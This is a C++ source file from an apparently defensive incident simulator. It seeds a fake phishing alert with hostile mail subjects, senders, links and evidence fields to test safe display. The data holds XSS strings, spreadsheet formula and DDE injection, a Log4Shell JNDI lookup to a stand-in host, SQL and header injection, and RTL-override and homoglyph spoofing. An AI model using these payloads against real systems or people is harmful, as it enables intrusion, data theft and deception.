// SPDX-FileCopyrightText: The Casemate authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "story.h"

#include "endpointevidence.h"
#include "teller.h"

#include <array>

namespace simulator {

using namespace Qt::StringLiterals;

namespace {

constexpr int longSubject = 50'000; // characters

// Whoever sends a mail chooses its subject: what analysts see of it must stay text, in its own line and place.
QStringList hostileSubjects()
{
    return {u"Invoice \u202Efdp.exe"_s, // turns the rest around: "exe.pdf"
            u"\u2067\u05E9\u05DC\u05D5\u05DD\u2069 \u202Dabc\u202C left to right again"_s,
            u"\u0420\u0430\u0443\u0420\u0430l: y\u043Eur \u0430cc\u043Eunt"_s, // Cyrillic letters that look Latin
            u"<img src=x onerror=alert(1)><a href=\"file:///etc/passwd\">open</a> <!-- "_s,
            u"=HYPERLINK(\"https://formula.example/?\"&A1,\"total\")"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"\u4ED8\u6B3E\u901A\u77E5 \u0936\u0941\u0932\u094D\u0915 \u0641\u0627\u062A\u0648\u0631\u0629 \u0BB5\u0BBF\u0BB2\u0BC8 \U0001F4E6\U0001F3F4\u200D\u2620\uFE0F"_s,
            u"Ma\uFFFDgeb\uFFFDhr f\uFFFDllig"_s, // decoded wrongly before it came here
            u"Z\u0351\u036B\u0343\u036A\u0302a\u0367\u034A\u0342\u0312l\u034C\u0352\u0343g\u036B\u0304o\u0307\u0368"_s, // stacked marks
            u"zero\u200Bwidth\u2060and\u00ADsoft\uFEFF"_s,
            u"line one\r\nBcc: everyone@example.example\tand\u2028line three"_s,
            u"%1 %2 %n & \u0000 {0} ${jndi:ldap://x.example/a}"_s.replace(QChar(u'\0'), QChar(u'\uFFFD')),
            u"A"_s.repeated(longSubject),
            QString()};
}

Mail draftOf(const QString &subject, int number)
{
    Mail mail;
    mail.subject = subject;
    mail.senderName = number % 2 == 0 ? u"Ada Lindqvist\u200E (via \u202Eelgoog\u202C)"_s : QString();
    mail.senderAddress = u"\u0430da.lindqvist@h\u0430rborline.example"_s; // not ours: two letters are Cyrillic
    mail.envelopeAddress = u"\"<script>\"@mail.hostile-text.example"_s;
    mail.senderIp = u"2001:db8:bad:cafe::1"_s;
    mail.clusterId = 4'611'686'018'427'387'905;
    mail.threat = MailThreat::Phish;
    mail.highConfidence = true;
    mail.authenticated = false;
    mail.urls = {{u"https://harborline.example@hostile-text.example/%2e%2e/\u202Egpj.exe?q=<b>&r=\"'"_s, true},
                 {u"javascript:alert(document.domain)"_s, true},
                 {u"https://xn--hrborline-1fg.example/"_s, true}};
    return mail;
}

// Words and lists that the service leaves out or empty, as it does with alerts of Defender for Office 365.
QJsonObject withGaps(QJsonObject message, int number)
{
    message.insert(u"deliveryAction"_s, QString());
    message.insert(u"antiSpamDirection"_s, QString());
    message.insert(u"remediationStatusDetails"_s, QString());
    if (number % 2 == 0) {
        message.remove(u"threats"_s);
        message.remove(u"threatDetectionMethods"_s);
        message.remove(u"language"_s);
    } else {
        message.insert(u"urls"_s, QJsonArray());
        message.insert(u"p1Sender"_s, QJsonValue::Null);
    }
    return message;
}

} // namespace

void tellHostileText(Teller &teller)
{
    teller.incident({.title = u"<b>Mails with text that attacks the reader</b> \u202E(gnitset)"_s,
                     .description = u"Subjects, senders and links made to mislead people and programs.\n\n<script>document.title='x'</script>"_s,
                     .severity = Severity::Medium,
                     .priority = 33});
    AlertDraft alert;
    alert.text = {.title = u"Email messages containing malicious URL removed after delivery\u200B"_s,
                  .description = u"See the evidence; \uFFFD stands where something could not be decoded."_s,
                  .category = u"InitialAccess"_s,
                  .detectionSource = u"microsoftDefenderForOffice365"_s,
                  .recommendedActions = u"\u2022 Do not open.\r\n\u2022 <a href=\"https://hostile-text.example\">Click here</a>\r\n\uFFFD Report."_s,
                  .threatName = u"'; DROP TABLE incidents; --"_s,
                  .techniques = {u"T1566.002"_s, u"T1036.002"_s}};
    alert.severity = Severity::Medium;
    const QStringList subjects = hostileSubjects();
    for (int i = 0; i < subjects.size(); ++i) {
        const quint32 copy = teller.mail(draftOf(subjects.at(i), i), -20 - i, teller.person(i % 4).upn, Place::Junk);
        alert.evidence.append(withGaps(messageEvidence(teller.head(0, "active"_L1, "malicious"_L1), teller.message(copy)), i));
    }
    alert.evidence.append(fileEvidence(teller.head(0, "active"_L1, "malicious"_L1),
                                       {.name = u"r\u00E9sum\u00E9_\u202Excod.exe"_s,
                                        .path = u"C:\\Users\\Public\\..\\..\\\u200F\\"_s,
                                        .sha1 = teller.random().hex(40),
                                        .sha256 = teller.random().hex(64),
                                        .size = 77'312,
                                        .publisher = u"Micr\u043Esoft C\u043Erporation"_s},
                                       {}, "detected"_L1));
    alert.evidence.append(malwareEvidence(teller.head(0, "active"_L1, "malicious"_L1), u"Trojan:Win32/<Generic>&\u202Ella"_s,
                                          u"Trojan"_s,
                                          fileEvidence(teller.head(0), {.name = u"+1+1|calc.exe"_s}, {}, "detected"_L1)));
    teller.alert(alert);
}

} // namespace simulator
